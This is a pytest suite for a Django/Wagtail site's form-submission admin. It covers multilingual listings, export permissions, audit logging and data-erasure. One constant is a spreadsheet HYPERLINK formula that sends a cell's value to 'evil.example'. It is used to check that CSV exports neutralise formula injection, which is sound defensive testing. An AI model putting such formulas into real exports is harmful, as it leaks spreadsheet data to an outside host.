"""Staff and form submissions: one table per form in the admin with every
language, downloads only with the export permission, safe in a spreadsheet
and logged; a person's submissions go when their data is deleted."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Locale, ModelLogEntry

from campaigns.models import FormPageSubmission
from supporters.people import person_erase
from tests.petitions.conftest import staff_user

from .form_pages import po_translate, volunteer_page_add

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.fixture
def volunteer(home_page):
    page = volunteer_page_add(home_page)
    po_translate(page, "haz")
    po_translate(page, "ur")
    return page


def submit(client, page, code, **answers):
    page = page.get_translation(Locale.objects.get(language_code=code))
    data = {
        "your_name": "Zahra Hazara",
        "email_address": "zahra@example.com",
        "region": "1",
        **answers,
    }
    response = client.post(f"/{code}/forms/{page.pk}/send/", data)
    assert response.status_code == 302
    return page


def editor(*permissions, username="editor"):
    user = staff_user(*permissions, username=username)
    user.groups.add(Group.objects.get(name="Editors"))
    return user


def test_the_english_form_lists_every_languages_submissions_with_their_language(
    client, admin_client, volunteer
):
    submit(client, volunteer, "haz", your_name="زهرا")
    submit(client, volunteer, "ur", email_address="ali@example.com", your_name="علی")
    submit(client, volunteer, "en", email_address="sam@example.com", your_name="Sam")

    forms = admin_client.get(reverse("wagtailforms:index")).content.decode()
    listing = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[volunteer.pk])
    ).content.decode()

    assert forms.count(f"/admin/forms/submissions/{volunteer.pk}/") >= 1
    assert "قد ما داوطلب شونید" not in forms
    cells = re.findall(r"<td>\s*(.*?)\s*</td>", listing, re.S)
    for name, language in (("زهرا", "Hazaragi"), ("علی", "Urdu"), ("Sam", "English")):
        assert cells[cells.index(name) - 1] == language


def test_a_user_without_the_export_permission_gets_no_download(client, volunteer):
    submit(client, volunteer, "en")
    client.force_login(editor())
    url = reverse("wagtailforms:list_submissions", args=[volunteer.pk])

    listing = client.get(url)
    download = client.get(url + "?export=csv")

    assert listing.status_code == 200
    assert "zahra@example.com" in listing.content.decode()
    assert "export=csv" not in listing.content.decode()
    # The admin's answer to a refused permission: back to the dashboard.
    assert download.status_code == 302
    assert not download.has_header("Content-Disposition")
    assert "zahra@example.com" not in download.content.decode()
    assert not ModelLogEntry.objects.filter(action="petitions.export").exists()


def test_a_download_neutralises_formulas_and_is_logged(client, volunteer):
    submit(client, volunteer, "haz", your_name=FORMULA)
    user = editor("supporters.export_personal_data")
    client.force_login(user)
    url = reverse("wagtailforms:list_submissions", args=[volunteer.pk])

    assert "export=csv" in client.get(url).content.decode()
    response = client.get(url + "?export=csv")

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0][:3] == ["Submission date", "Language", "Your name"]
    assert rows[1][1] == "Hazaragi"
    assert rows[1][2] == "'" + FORMULA
    entry = ModelLogEntry.objects.get(action="petitions.export")
    assert entry.user == user
    assert entry.data["rows"] == 1
    assert entry.data["format"] == "csv"


def test_a_persons_download_has_their_form_answers_under_each_question(
    client, admin_client, volunteer
):
    submit(client, volunteer, "haz", email_address="Zahra+forms@Example.com")
    submit(client, volunteer, "ur", email_address="ali@example.com")

    response = admin_client.post(
        reverse("erase_person:index"), {"download": "1", "email": "zahra@example.com"}
    )

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook["Form submissions"].values)
    assert rows[0] == ("ID", "Form", "Language", "Sent at", "Answers")
    assert len(rows) == 2
    assert rows[1][1] == volunteer.title
    assert rows[1][2] == "haz"
    assert "Your name: Zahra Hazara" in rows[1][4]
    assert "Email address: Zahra+forms@Example.com" in rows[1][4]


def test_deleting_a_person_removes_their_form_submissions_and_no_one_elses(
    client, admin_client, volunteer
):
    submit(client, volunteer, "haz", email_address="Zahra+forms@Example.com")
    submit(client, volunteer, "en", email_address="zahra@example.com")
    submit(client, volunteer, "ur", email_address="ali@example.com")

    found = admin_client.post(
        reverse("erase_person:index"), {"email": "zahra@example.com"}
    ).content.decode()
    erased = person_erase(email="zahra@example.com", user=None)

    assert "2 form submissions" in found
    assert erased["form_submissions"] == 2
    assert list(
        FormPageSubmission.objects.values_list("form_data__email_address", flat=True)
    ) == ["ali@example.com"]
